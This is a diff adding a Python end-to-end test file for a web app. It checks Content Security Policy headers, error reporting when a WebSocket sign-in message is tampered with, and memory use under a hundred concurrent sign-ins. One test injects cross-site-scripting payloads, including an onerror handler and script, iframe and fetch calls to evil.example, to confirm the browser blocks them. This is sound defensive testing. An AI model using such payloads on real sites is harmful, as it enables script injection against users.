@@ -1,0 +1,109 @@
+"""What the browser is kept from doing, and what a burst of sign-ins does to the server."""
+
+import json
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from playwright.sync_api import Page, WebSocketRoute, expect
+
+from tests.e2e.console import Console
+from tests.e2e.journeys import Learner, expect_question, start_test
+from tests.e2e.product import Product
+
+MEMBERS_PAGES = ("/dashboard", "/dashboard/profile", "/test/react", "/practice-test/vue", "/payment")
+PUBLIC_PAGES = ("/", "/auth/login", "/auth/register", "/verify/WDC-RE-7K3M-92QF-Z", "/api/docs")
+_LOGINS = 100
+_MOST_MEGABYTES = 500
+
+
+def test_every_page_keeps_to_its_policy(page: Page, member: Page) -> None:
+    """A violation would be an error in the console, which fails every test of this folder."""
+    for visitor, paths in ((page, PUBLIC_PAGES), (member, MEMBERS_PAGES)):
+        for path in paths:
+            response = visitor.goto(path)
+            assert response
+            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path
+            expect(visitor.get_by_role("heading").first).to_be_visible()
+    start_test(member, "react")
+    expect_question(member, 1)
+
+
+def test_a_script_that_was_not_built_does_not_run(page: Page, console: Console) -> None:
+    page.goto("/about")
+    append = "(name, members) => document.body.append(Object.assign(document.createElement(name), members))"
+    for name, members in (
+        ("script", {"text": "pwned = 1"}),
+        ("script", {"src": "https://evil.example/x.js"}),
+        ("iframe", {"src": "https://evil.example"}),
+        ("div", {"innerHTML": '<img src="/x" onerror="pwned = 1">'}),
+        ("base", {"href": "https://evil.example"}),
+    ):
+        page.evaluate(f"([name, members]) => ({append})(name, members)", [name, members])
+    # Playwright itself may use eval; what is evaluated later may not.
+    page.evaluate("() => { setTimeout('pwned = 1') }")
+    assert page.evaluate("fetch('https://evil.example/').then(() => false, () => true)")
+    page.wait_for_timeout(200)
+    assert page.evaluate("typeof pwned") == "undefined"
+    refused = [error for error in console.errors if "Content Security Policy" in error]
+    assert len(refused) >= 6
+    console.errors.clear()
+
+
+def test_a_failing_handler_is_said(page: Page, product: Product) -> None:
+    def spoil(route: WebSocketRoute) -> None:
+        server = route.connect_to_server()
+
+        def on_message(message: str | bytes) -> None:
+            if isinstance(message, str) and "auth_form_state.login" in message:
+                prefix, _, body = message.partition("[")
+                name, event = json.loads(f"[{body}")
+                event["payload"] = {"form": "no form"}
+                message = f"{prefix}{json.dumps([name, event])}"
+            server.send(message)
+
+        route.on_message(on_message)
+
+    page.route_web_socket("**/_event/**", spoil)
+    page.goto("/auth/login")
+    page.get_by_label("Email").fill("ada@example.com")
+    for times in (1, 2):
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_text("Something went wrong on our side")).to_have_count(times)
+
+
+@pytest.mark.each_database
+def test_a_hundred_sign_ins_at_once_block_nobody(product: Product, learner: Learner, tokens: Any) -> None:
+    """Each hash holds 64 MiB; without a bound a hundred would hold six gigabytes."""
+    done: list[str] = []
+    with (
+        httpx.Client(base_url=product.url, timeout=120) as client,
+        ThreadPoolExecutor(_LOGINS + 1) as threads,
+    ):
+
+        def sign_in(_: int) -> int:
+            form = {"email": learner.email, "password": learner.password}
+            status = client.post("/api/auth/login", json=form).status_code
+            done.append("login")
+            return status
+
+        first, *others = [threads.submit(sign_in, n) for n in range(_LOGINS)]
+        first.result()
+        assert client.get("/api/health").status_code == 200
+        done.append("health")
+        statuses = [first.result(), *(other.result() for other in others)]
+    assert statuses == [200] * _LOGINS
+    assert done.index("health") < _LOGINS / 2
+    assert _peak_megabytes(product) < _MOST_MEGABYTES
+
+
+def _peak_megabytes(product: Product) -> float:
+    """The most that the server's processes have held in memory, added up (VmHWM, proc(5))."""
+    peak = 0
+    for process in product.processes():
+        status = Path(f"/proc/{process}/status").read_text()
+        peak += sum(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmHWM"))
+    assert peak
+    return peak / 1024
